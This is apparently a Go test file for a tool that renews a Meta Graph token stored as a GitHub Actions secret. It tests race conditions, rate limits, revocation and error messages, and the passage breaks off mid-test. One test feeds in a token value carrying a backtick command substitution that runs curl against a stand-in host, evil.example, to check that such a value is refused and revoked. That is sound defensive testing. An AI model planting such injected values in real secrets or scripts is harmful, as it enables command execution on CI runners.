package renew_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/metamint/metamint/internal/clock"
	"github.com/metamint/metamint/internal/ghsecrets"
	"github.com/metamint/metamint/internal/ghsecrets/ghsecretstest"
	"github.com/metamint/metamint/internal/renew"
	"github.com/metamint/metamint/pkg/mint"
	"github.com/metamint/metamint/pkg/mint/minttest"
)

const (
	ghToken = "ghs_CANARYrenewTOKEN000000000000009"
	repo    = "octo-org/deploy"
	// org holds the organization secret of the tests that renew one
	// (orgSecret), written with orgToken.
	org      = "octo-org"
	orgToken = "ghs_CANARYorgTOKEN0000000000000012"
	name     = "META_TOKEN"
	day      = 24 * time.Hour
)

type fixture struct {
	fx     minttest.Fixture
	graph  *minttest.Server
	gh     *ghsecretstest.Server
	old    string
	cfg    renew.Config
	hidden []string
}

func newFixture(t *testing.T, life time.Duration) *fixture {
	t.Helper()
	f := &fixture{graph: minttest.NewServer(), gh: ghsecretstest.NewServer()}
	t.Cleanup(f.graph.Close)
	t.Cleanup(f.gh.Close)
	fx := f.graph.Seed()
	f.fx = fx
	f.graph.InstallApp(fx.SystemUserID, fx.AppID)
	f.old = f.graph.IssueToken(minttest.TokenSpec{UserID: fx.SystemUserID, AppID: fx.AppID, Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(life)})
	f.gh.SetClock(f.graph.Now)
	f.gh.AddRepo(repo)
	f.gh.AddToken(ghToken, ghsecretstest.SecretsWrite)
	f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, f.old, "")
	mc, err := mint.NewClient(mint.WithBaseURL(f.graph.URL), mint.WithHTTPClient(f.graph.Client()))
	if err != nil {
		t.Fatal(err)
	}
	f.cfg = renew.Config{
		Graph: mc, App: mint.App{ID: fx.AppID, Secret: fx.AppSecret}, AccessToken: f.old, GitHub: f.githubClient(t, ghToken),
		Target: ghsecrets.Target{Name: name, Repo: repo}, Within: 30 * day, Now: f.graph.Now,
		Hide:        func(tok string) { f.hidden = append(f.hidden, tok) },
		GitHubToken: "github-token",
	}
	return f
}

// githubClient is a client of the GitHub stand-in with token and opts.
func (f *fixture) githubClient(t *testing.T, token string, opts ...ghsecrets.Option) *ghsecrets.Client {
	t.Helper()
	gc, err := ghsecrets.NewClient(token, append([]ghsecrets.Option{ghsecrets.WithBaseURL(f.gh.URL)}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	return gc
}

// orgSecret makes the renewal's target the organization secret name of
// org, holding the old token with "selected" visibility (repo), and its
// GitHub client one with orgToken, which may write organization secrets,
// and opts.
func (f *fixture) orgSecret(t *testing.T, opts ...ghsecrets.Option) {
	t.Helper()
	f.gh.AddOrg(org)
	f.gh.AddToken(orgToken, ghsecretstest.OrganizationSecretsWrite)
	f.gh.SetSecret(ghsecretstest.OrgScope(org), name, f.old, "selected", repo)
	f.cfg.GitHub, f.cfg.Target = f.githubClient(t, orgToken, opts...), ghsecrets.Target{Name: name, Org: org}
}

// TestRunEchoedOldToken: Graph answers the refresh with the old token's own
// value and no later expiry. The check refuses it, and the old token, the
// one in the secret, is not revoked and not rewritten.
func TestRunEchoedOldToken(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.graph.FailNext(minttest.EndpointExchange, minttest.Fault{Status: 200,
		Body: fmt.Appendf(nil, `{"access_token":%q,"token_type":"bearer","expires_in":5184000}`, f.old)})
	res, err := renew.Run(t.Context(), f.cfg)
	var rerr *renew.Error
	if !errors.As(err, &rerr) || !errors.Is(err, mint.ErrRenewalMismatch) || res != nil {
		t.Fatalf("Run() = %v, %v; want a renew.Error matching ErrRenewalMismatch", res, err)
	}
	if !strings.Contains(err.Error(), "never revoked") {
		t.Errorf("Run() error = %q; want it to say the old value is never revoked", err)
	}
	if st, _ := f.graph.Token(f.old); st.Revoked {
		t.Errorf("the old token was revoked")
	}
	if n := f.gh.Writes(); n != 0 {
		t.Errorf("GitHub writes = %d; want 0", n)
	}
	if strings.Contains(err.Error(), f.old) {
		t.Errorf("the error holds the token")
	}
}

// TestRunRefusesNonBearerToken: the refresh answers a token a shell would
// run (workflows put the secret in scripts): it is hidden, refused before
// the write and revoked; the secret keeps the old token.
func TestRunRefusesNonBearerToken(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	const hostile = "EAA`curl${IFS}evil.example`"
	f.graph.MintNextAs(hostile)
	_, err := renew.Run(t.Context(), f.cfg)
	var ferr *mint.FlowError
	if !errors.As(err, &ferr) || ferr.Step != mint.StepCreated || !strings.Contains(err.Error(), "not a Bearer token") {
		t.Fatalf("Run() = %v; want the refreshed token refused as no Bearer token", err)
	}
	if st, ok := f.graph.Token(hostile); !ok || !st.Revoked {
		t.Errorf("refreshed token = %+v, %v; want it revoked", st, ok)
	}
	if n := f.gh.Writes(); n != 0 {
		t.Errorf("GitHub writes = %d; want 0", n)
	}
	if len(f.hidden) != 1 || f.hidden[0] != hostile {
		t.Errorf("hidden %q; want the refreshed token, hidden before it was refused", f.hidden)
	}
	if strings.Contains(err.Error(), hostile) {
		t.Errorf("the error holds the token")
	}
}

// TestRunHidesFirst: the new token reaches Hide, once, and is what the
// secret holds; nothing Run returns holds it.
func TestRunHidesFirst(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	res, err := renew.Run(t.Context(), f.cfg)
	if err != nil || res.Outcome != renew.Renewed {
		t.Fatalf("Run() = %v, %v; want Renewed", res, err)
	}
	got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name)
	if len(f.hidden) != 1 || f.hidden[0] != got.Value || got.Value == f.old {
		t.Errorf("hidden %d tokens; want exactly the new token the secret holds", len(f.hidden))
	}
	if !res.ExpiresAt.After(res.Previous.ExpiresAt) {
		t.Errorf("ExpiresAt %v is not after the old %v", res.ExpiresAt, res.Previous.ExpiresAt)
	}
}

// TestRunRevokeFails: GitHub refuses the write and revoking the new token
// fails too: the error says the token stays valid.
func TestRunRevokeFails(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.gh.FailNextWrite(422, "Bad request")
	f.graph.FailNext(minttest.EndpointRevoke, minttest.Fault{Status: 500, Error: &minttest.Error{Message: "boom", Code: 2, IsTransient: true}})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "Revoking the new token failed too") {
		t.Fatalf("Run() = %v; want it to say revoking failed", err)
	}
	f.noneRevoked(t)
}

// TestRunRateLimitedWrite: GitHub answers the write of the new token with
// its secondary rate limit. A rate limit is "not now": the write is sent
// again after the wait GitHub asks for, the new token is stored, and no
// token is revoked.
func TestRunRateLimitedWrite(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	fake := clock.NewFake(time.Now())
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithClock(fake.Now, fake.Sleep))
	f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodPut, Status: http.StatusTooManyRequests,
		Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"1"}}})
	res, err := renew.Run(t.Context(), f.cfg)
	if err != nil || res.Outcome != renew.Renewed {
		t.Fatalf("Run() = %v, %v; want Renewed after the wait", res, err)
	}
	if got := fake.Slept(); !slices.Equal(got, []time.Duration{time.Second}) {
		t.Errorf("waited %v; want [1s], the retry-after, once", got)
	}
	got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name)
	if len(f.hidden) != 1 || got.Value != f.hidden[0] {
		t.Errorf("the secret does not hold the new token")
	}
	f.noneRevoked(t)
}

// noneRevoked fails t when any token was revoked.
func (f *fixture) noneRevoked(t *testing.T) {
	t.Helper()
	for _, tok := range f.graph.Tokens() {
		if tok.Revoked {
			t.Errorf("a token was revoked")
		}
	}
}

// heldLive fails t when the token the secret of scope holds was revoked,
// and returns that token.
func (f *fixture) heldLive(t *testing.T, scope ghsecretstest.Scope) string {
	t.Helper()
	got, _ := f.gh.Secret(scope, name)
	if st, _ := f.graph.Token(got.Value); st.Revoked {
		t.Errorf("the token the secret holds was revoked: every workflow that mints with it stops")
	}
	return got.Value
}

// graphThrough makes the renewal's Graph client send its requests through
// wrap(the emulator's transport).
func (f *fixture) graphThrough(t *testing.T, wrap func(http.RoundTripper) http.RoundTripper) {
	t.Helper()
	hc := f.graph.Client()
	hc.Transport = wrap(hc.Transport)
	mc, err := mint.NewClient(mint.WithBaseURL(f.graph.URL), mint.WithHTTPClient(hc))
	if err != nil {
		t.Fatal(err)
	}
	f.cfg.Graph = mc
}

// onPath is a transport that calls hook once, when the first request
// whose path ends in suffix passes, before Graph answers it: the refresh
// (exchangePath) or "/debug_token".
type onPath struct {
	suffix string
	next   http.RoundTripper
	once   sync.Once
	hook   func()
}

const exchangePath = "/oauth/access_token"

func (o *onPath) RoundTrip(r *http.Request) (*http.Response, error) {
	if strings.HasSuffix(r.URL.Path, o.suffix) {
		o.once.Do(o.hook)
	}
	return o.next.RoundTrip(r)
}

// TestRunSecretWrittenDuringRenewal: while the renewal refreshes the token,
// a person stores another token in the secret (or another renewal stores
// its own). The renewal must not overwrite it: the secret keeps the
// person's token. No token is revoked: this run cannot read the secret to
// tell whether it holds the new token (TestRunOtherWriterStoredTheSameToken).
func TestRunSecretWrittenDuringRenewal(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	fx := f.fx
	theirs := f.graph.IssueToken(minttest.TokenSpec{UserID: fx.SystemUserID, AppID: fx.AppID, Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(60 * day)})
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: exchangePath, next: next, hook: func() {
			f.graph.Advance(time.Minute)
			f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, theirs, "")
		}}
	})
	res, err := renew.Run(t.Context(), f.cfg)
	if err == nil {
		t.Fatalf("Run() = %+v; want an error: the secret was written during the renewal", res)
	}
	if !strings.Contains(err.Error(), "not overwritten") || !strings.Contains(err.Error(), "The new token is not revoked") {
		t.Errorf("Run() error = %q; want it to say the secret is not overwritten and the new token is not revoked", err)
	}
	if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != theirs {
		t.Errorf("the renewal overwrote the token a person stored during it")
	}
	if n := f.gh.Writes(); n != 0 {
		t.Errorf("GitHub writes = %d; want 0", n)
	}
	if len(f.hidden) != 1 {
		t.Fatalf("hidden %d tokens; want the new one", len(f.hidden))
	}
	f.noneRevoked(t)
}

// TestRunCannotTellIfWritten: reading the secret's update time again,
// just before the write, fails. The renewal cannot tell whether someone
// else wrote the secret meanwhile, so it does not write, and does not
// revoke the new token, which the secret may hold.
func TestRunCannotTellIfWritten(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: exchangePath, next: next, hook: func() {
			f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodGet, Status: http.StatusForbidden, Message: "Resource not accessible by integration"})
		}}
	})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "cannot tell whether someone else wrote it meanwhile") || !strings.Contains(err.Error(), "The new token is not revoked") {
		t.Fatalf("Run() = %v; want it to say the secret is not written and the new token is not revoked", err)
	}
	if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != f.old {
		t.Errorf("the secret changed")
	}
	f.noneRevoked(t)
}

// afterExchange is a transport that calls hook once with the new token,
// after Graph answered the refresh (GET /oauth/access_token).
type afterExchange struct {
	next http.RoundTripper
	once sync.Once
	hook func(token string)
}

func (a *afterExchange) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := a.next.RoundTrip(r)
	if err != nil || !strings.HasSuffix(r.URL.Path, "/oauth/access_token") {
		return resp, err
	}
	body, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		return nil, err
	}
	resp.Body = io.NopCloser(bytes.NewReader(body))
	var tok struct {
		AccessToken string `json:"access_token"`
	}
	if json.Unmarshal(body, &tok) == nil && tok.AccessToken != "" {
		a.once.Do(func() { a.hook(tok.AccessToken) })
	}
	return resp, nil
}

// otherStoresNewToken makes another renewal, answered the same new token
// by Graph, store it in the repository secret a minute after Graph
// answered this run's refresh; then runs next.
func (f *fixture) otherStoresNewToken(t *testing.T, next func()) {
	t.Helper()
	f.graphThrough(t, func(rt http.RoundTripper) http.RoundTripper {
		return &afterExchange{next: rt, hook: func(tok string) {
			f.graph.Advance(time.Minute)
			f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, tok, "")
			next()
		}}
	})
}

// TestRunOtherWriterStoredTheSameToken: another renewal, refreshing the
// same old token, was answered the same new token and stored it while this
// one ran. This renewal sees the secret changed and does not write; it
// must not revoke its new token either, since the secret may hold it (it
// cannot read the secret to tell).
func TestRunOtherWriterStoredTheSameToken(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.otherStoresNewToken(t, func() {})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "not overwritten") {
		t.Fatalf("Run() = %v; want it to say the secret is not overwritten", err)
	}
	f.heldLive(t, ghsecretstest.RepoScope(repo))
	if !strings.Contains(err.Error(), "not revoked") {
		t.Errorf("Run() error = %q; want it to say the new token is not revoked, and why", err)
	}
}

// TestRunRefusedWhileOtherWriterStored: GitHub refuses this renewal's
// write, but meanwhile another renewal stored the same new token. A
// refusal proves this write stored nothing, not that the secret does not
// hold the token: the renewal reads updated_at again before revoking.
func TestRunRefusedWhileOtherWriterStored(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &beforeWrite{
		next: http.DefaultTransport,
		hook: func() {
			f.graph.Advance(time.Minute)
			f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, f.hidden[0], "")
			f.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request")
		},
	}}))
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil {
		t.Fatal("Run() = nil; want the refused write reported")
	}
	if st, _ := f.graph.Token(f.hidden[0]); st.Revoked {
		t.Errorf("the token the secret holds was revoked after a refusal of this run's own write")
	}
}

// beforeWrite is a transport that calls hook once, before the first PUT
// reaches the server.
type beforeWrite struct {
	next http.RoundTripper
	once sync.Once
	hook func()
}

func (b *beforeWrite) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method == http.MethodPut {
		b.once.Do(b.hook)
	}
	return b.next.RoundTrip(r)
}

// TestRunOrgReposChangedDuringRenewal: while the renewal refreshes the
// token of an organization secret, a person changes which repositories may
// use it. The write sends the secret's visibility and repositories again:
// it must send them as they are when it writes, not as they were read at
// the start, or it would undo the person's change.
func TestRunOrgReposChangedDuringRenewal(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.orgSecret(t)
	f.gh.AddRepo("octo-org/site")
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: exchangePath, next: next, hook: func() {
			f.gh.SetRepos(ghsecretstest.OrgScope(org), name, repo, "octo-org/site")
		}}
	})
	res, err := renew.Run(t.Context(), f.cfg)
	if err != nil || res.Outcome != renew.Renewed {
		t.Fatalf("Run() = %v, %v; want Renewed", res, err)
	}
	got, _ := f.gh.Secret(ghsecretstest.OrgScope(org), name)
	if want := []string{repo, "octo-org/site"}; got.Visibility != "selected" || !slices.Equal(got.Repos, want) {
		t.Errorf("after the write: visibility %q, repositories %q; want selected %q, as the person set them", got.Visibility, got.Repos, want)
	}
}

// TestRunRateLimitedWriteWhileOtherWrote: GitHub answers the write with its
// rate limit, and while the renewal waits to send it again a person stores
// another token in the secret. The write sent after the wait would
// overwrite it: the renewal reads updated_at again before sending it, and
// does not write; the new token is kept (the other write may hold it).
func TestRunRateLimitedWriteWhileOtherWrote(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	fx := f.fx
	theirs := f.graph.IssueToken(minttest.TokenSpec{UserID: fx.SystemUserID, AppID: fx.AppID, Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(60 * day)})
	waits := 0
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithClock(time.Now, func(context.Context, time.Duration) error {
		waits++
		f.graph.Advance(time.Minute)
		f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, theirs, "")
		return nil
	}))
	f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodPut, Status: http.StatusTooManyRequests,
		Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"1"}}})
	res, err := renew.Run(t.Context(), f.cfg)
	if waits != 1 {
		t.Fatalf("waits = %d; want 1, for the rate-limited write", waits)
	}
	if err == nil {
		t.Fatalf("Run() = %+v; want an error: the secret was written while the renewal waited", res)
	}
	if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != theirs {
		t.Errorf("the write sent after the rate limit overwrote the token a person stored meanwhile")
	}
	if !strings.Contains(err.Error(), "not overwritten") || !strings.Contains(err.Error(), "The new token is not revoked") {
		t.Errorf("Run() error = %q; want it to say the secret is not overwritten and the new token is not revoked", err)
	}
	f.noneRevoked(t)
}

// afterWrite is a transport that calls hook once, after the first PUT got
// its answer or lost it.
type afterWrite struct {
	next http.RoundTripper
	once sync.Once
	hook func()
}

func (a *afterWrite) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := a.next.RoundTrip(r)
	if r.Method == http.MethodPut {
		a.once.Do(a.hook)
	}
	return resp, err
}

// TestRunLostAnswerWhileOtherWrote: the answer to the write is lost, and
// before the renewal sends it once more a person stores another token. The
// write sent again would overwrite it: the renewal reads updated_at first,
// sees the secret written since (by its own lost write or by someone
// else: it cannot tell), does not write again, and keeps the new token.
func TestRunLostAnswerWhileOtherWrote(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	fx := f.fx
	theirs := f.graph.IssueToken(minttest.TokenSpec{UserID: fx.SystemUserID, AppID: fx.AppID, Scopes: []string{"ads_read"}, ExpiresAt: f.graph.Now().Add(60 * day)})
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &afterWrite{
		next: http.DefaultTransport,
		hook: func() {
			f.graph.Advance(time.Minute)
			f.gh.SetSecret(ghsecretstest.RepoScope(repo), name, theirs, "")
		},
	}}))
	f.gh.LoseNextWrites(1)
	res, err := renew.Run(t.Context(), f.cfg)
	if err == nil {
		t.Fatalf("Run() = %+v; want an error: the secret was written after the lost answer", res)
	}
	if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != theirs {
		t.Errorf("the write sent once more overwrote the token a person stored after the lost answer")
	}
	if n := f.gh.Writes(); n != 1 {
		t.Errorf("GitHub writes = %d; want 1: the lost one only", n)
	}
	if !strings.Contains(err.Error(), "no answer") || !strings.Contains(err.Error(), "not revoked") {
		t.Errorf("Run() error = %q; want it to say the write got no answer and the new token is kept", err)
	}
	f.noneRevoked(t)
}

// failReposAgain is a transport that, at the second read of an
// organization secret's selected repositories, calls hook and answers
// with a broken connection.
type failReposAgain struct {
	next  http.RoundTripper
	reads int
	hook  func()
}

func (f *failReposAgain) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method == http.MethodGet && strings.HasSuffix(r.URL.Path, "/repositories") {
		if f.reads++; f.reads == 2 {
			f.hook()
			return nil, errors.New("connection reset by peer")
		}
	}
	return f.next.RoundTrip(r)
}

// TestRunOrgReadAgainFailsWhileOtherStored: reading an organization
// secret's repositories again before the write fails, and meanwhile another
// renewal, answered the same new token by Graph, stored it. The renewal
// does not write; it must not revoke the new token, which the secret holds:
// it revokes only while updated_at shows the secret unchanged.
func TestRunOrgReadAgainFailsWhileOtherStored(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.orgSecret(t, ghsecrets.WithHTTPClient(&http.Client{Transport: &failReposAgain{
		next: http.DefaultTransport,
		hook: func() {
			f.graph.Advance(time.Minute)
			f.gh.SetSecret(ghsecretstest.OrgScope(org), name, f.hidden[0], "selected", repo)
		},
	}}))
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil {
		t.Fatal("Run() = nil; want the failed read reported")
	}
	if got := f.heldLive(t, ghsecretstest.OrgScope(org)); got != f.hidden[0] {
		t.Errorf("the secret does not hold the new token")
	}
	if !strings.Contains(err.Error(), "The new token is not revoked") {
		t.Errorf("Run() error = %q; want it to say the new token is not revoked", err)
	}
}

// TestRunUpdatedReadFailsAfterInspect: reading the secret's updated_at
// fails after debug_token inspected the token. The message says nothing
// changed at Meta; it must not say nothing was called there, since
// debug_token was.
func TestRunUpdatedReadFailsAfterInspect(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: "/debug_token", next: next, hook: func() {
			f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodGet, Status: http.StatusForbidden, Message: "Resource not accessible by integration"})
		}}
	})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "reading when the repository secret") {
		t.Fatalf("Run() = %v; want the failed read of updated_at", err)
	}
	if strings.Contains(err.Error(), "Nothing was called at Meta") || !strings.Contains(err.Error(), "Nothing was changed at Meta") {
		t.Errorf("Run() error = %q; want it to say nothing was changed at Meta (debug_token was called)", err)
	}
	if len(f.hidden) != 0 {
		t.Errorf("a token was refreshed")
	}
}

// TestRunRateLimitOutlastsTheRun: GitHub answers the write with a rate
// limit longer than the run may wait. The message says when to run again,
// and what became of the new token; it must not say nothing was done,
// since a token was refreshed (and revoked).
func TestRunRateLimitOutlastsTheRun(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.gh.RateLimitNext(ghsecretstest.RateLimit{Method: http.MethodPut, Status: http.StatusTooManyRequests,
		Message: "You have exceeded a secondary rate limit.", Header: http.Header{"Retry-After": {"3600"}}})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "run again after") || !strings.Contains(err.Error(), "The new token was revoked.") {
		t.Fatalf("Run() = %v; want it to say when to run again and that the new token was revoked", err)
	}
	if strings.Contains(err.Error(), "nothing was done") {
		t.Errorf("Run() error = %q; says nothing was done, yet a token was refreshed and revoked", err)
	}
	if st, _ := f.graph.Token(f.hidden[0]); !st.Revoked {
		t.Errorf("the new token, stored nowhere, was not revoked")
	}
}

// TestRunSecretDeletedDuringRenewal: a person deletes the secret while the
// renewal refreshes its token. The renewal must not create it again, and
// its message must say the secret was deleted (or is no longer visible to
// the GitHub token: GitHub answers 404 to both), not that someone wrote it.
// The new token is kept: a 404 cannot tell a deleted secret from one the
// token may no longer see, which may hold it.
func TestRunSecretDeletedDuringRenewal(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: exchangePath, next: next, hook: func() { f.gh.DeleteSecret(ghsecretstest.RepoScope(repo), name) }}
	})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil {
		t.Fatal("Run() = nil; want an error: the secret was deleted during the renewal")
	}
	if _, ok := f.gh.Secret(ghsecretstest.RepoScope(repo), name); ok || f.gh.Writes() != 0 {
		t.Errorf("the renewal created the deleted secret again")
	}
	if msg := err.Error(); !strings.Contains(msg, "was deleted") || strings.Contains(msg, "another renewal") || strings.Contains(msg, "overwritten") ||
		!strings.Contains(msg, "no longer") || !strings.Contains(msg, "The new token is not revoked") {
		t.Errorf("Run() error = %q; want it to say the secret was deleted or is no longer visible, and is not written", msg)
	}
	f.noneRevoked(t)
}

// TestRunOrgSecretDeletedDuringRenewal: a person deletes an organization
// secret while the renewal refreshes its token. Reading its visibility
// again fails (404): the renewal does not create it again, with a
// visibility it can no longer read, and keeps the new token, as a 404
// cannot tell a deleted secret from one the token may no longer see.
func TestRunOrgSecretDeletedDuringRenewal(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.orgSecret(t)
	f.graphThrough(t, func(next http.RoundTripper) http.RoundTripper {
		return &onPath{suffix: exchangePath, next: next, hook: func() { f.gh.DeleteSecret(ghsecretstest.OrgScope(org), name) }}
	})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "it is not written") || !strings.Contains(err.Error(), "The new token is not revoked") {
		t.Fatalf("Run() = %v; want it to say the secret is not written and the new token is kept", err)
	}
	if _, ok := f.gh.Secret(ghsecretstest.OrgScope(org), name); ok || f.gh.Writes() != 0 {
		t.Errorf("the renewal created the deleted organization secret again")
	}
	f.noneRevoked(t)
}

// TestRunInspectFailsWhileOtherStored: another renewal, answered the same
// new token by Graph, stored it; this run's debug_token of that token then
// fails. A new token that fails a later step is revoked, but not while the
// secret may hold it: updated_at changed, so it is kept.
func TestRunInspectFailsWhileOtherStored(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.otherStoresNewToken(t, func() {
		f.graph.FailNext(minttest.EndpointDebugToken, minttest.Fault{Status: 500, Error: &minttest.Error{Message: "Service temporarily unavailable", Code: 2, IsTransient: true}})
	})
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil {
		t.Fatal("Run() = nil; want the failed debug_token reported")
	}
	f.heldLive(t, ghsecretstest.RepoScope(repo))
	if !strings.Contains(err.Error(), "not revoked") {
		t.Errorf("Run() error = %q; want it to say the new token is not revoked, and why", err)
	}
}

// TestRunEchoedGitHubToken: GitHub's answer to the read of updated_at
// just before the write echoes the GitHub token the request carried, as a
// broken or hostile server might. The renewal sees the secret changed and
// does not write; its message quotes the stamp, which must not carry the
// token (the stamp is cut to 40 characters, so a longer token would leave
// a piece a runner's mask does not hide).
func TestRunEchoedGitHubToken(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &echoUpdated{next: http.DefaultTransport}}))
	_, err := renew.Run(t.Context(), f.cfg)
	if err == nil || !strings.Contains(err.Error(), "not overwritten") {
		t.Fatalf("Run() = %v; want it to say the secret is not overwritten", err)
	}
	if strings.Contains(err.Error(), ghToken) {
		t.Errorf("Run() error = %q; holds the GitHub token", err)
	}
	if n := f.gh.Writes(); n != 0 {
		t.Errorf("GitHub writes = %d; want 0", n)
	}
}

// echoUpdated is a transport that answers each read of the secret after
// the first with an updated_at that is the request's bearer token.
type echoUpdated struct {
	next  http.RoundTripper
	reads int
}

func (e *echoUpdated) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method != http.MethodGet || !strings.HasSuffix(r.URL.Path, "/secrets/"+name) {
		return e.next.RoundTrip(r)
	}
	if e.reads++; e.reads == 1 {
		return e.next.RoundTrip(r)
	}
	body, err := json.Marshal(map[string]string{"name": name, "updated_at": strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")})
	if err != nil {
		return nil, err
	}
	return &http.Response{StatusCode: http.StatusOK, Status: "200 OK", Header: http.Header{"Content-Type": {"application/json"}},
		Body: io.NopCloser(bytes.NewReader(body)), Request: r}, nil
}

// TestRunRefusedAtTheDeadline: GitHub refuses the write, and the step's
// context ends as the refusal arrives. The new token is stored nowhere: it
// must still be revoked, and the read of updated_at that allows it must
// still be made, past the deadline, or a live token nobody holds is left.
func TestRunRefusedAtTheDeadline(t *testing.T) {
	t.Parallel()
	f := newFixture(t, 10*day)
	ctx, cancel := context.WithCancel(t.Context())
	defer cancel()
	f.cfg.GitHub = f.githubClient(t, ghToken, ghsecrets.WithHTTPClient(&http.Client{Transport: &endAfterWrite{next: http.DefaultTransport, end: cancel}}))
	f.gh.FailNextWrite(http.StatusUnprocessableEntity, "Bad request")
	_, err := renew.Run(ctx, f.cfg)
	if ctx.Err() == nil {
		t.Fatal("the step's context did not end at the write")
	}
	if err == nil || !strings.Contains(err.Error(), "GitHub refused") || !strings.Contains(err.Error(), "The new token was revoked.") {
		t.Fatalf("Run() = %v; want the refusal, and the new token revoked", err)
	}
	if st, _ := f.graph.Token(f.hidden[0]); !st.Revoked {
		t.Errorf("the new token, stored nowhere, was not revoked")
	}
	if got, _ := f.gh.Secret(ghsecretstest.RepoScope(repo), name); got.Value != f.old {
		t.Errorf("the secret changed")
	}
}

// endAfterWrite is a transport that, once GitHub answered the first PUT,
// reads the whole answer and then calls end (the step's context ends).
type endAfterWrite struct {
	next http.RoundTripper
	once sync.Once
	end  func()
}

func (e *endAfterWrite) RoundTrip(r *http.Request) (*http.Response, error) {
	resp, err := e.next.RoundTrip(r)
	if err != nil || r.Method != http.MethodPut {
		return resp, err
	}
	body, err := io.ReadAll(resp.Body)
	_ = resp.Body.Close()
	if err != nil {
		return nil, err
	}
	resp.Body = io.NopCloser(bytes.NewReader(body))
	e.once.Do(e.end)
	return resp, nil
}

// TestRunSecretMissing: the named secret does not exist (a mistyped name,
// or the token lives in an environment's or the organization's secret of
// that name, which a workflow's secrets.NAME also reads). The renewal must
// not create it: a new secret would hold the new token while the one the
// workflows read keeps the old, expiring one, and the run would say
// renewed. It fails before the refresh: no token is issued.
func TestRunSecretMissing(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		target ghsecrets.Target
		setup  func(f *fixture)
	}{
		{name: "repository secret", target: ghsecrets.Target{Name: "META_TOKN", Repo: repo}},
		{name: "environment secret", target: ghsecrets.Target{Name: name, Repo: repo, Environment: "prod"},
			setup: func(f *fixture) {
				f.gh.AddEnvironment(repo, "prod")
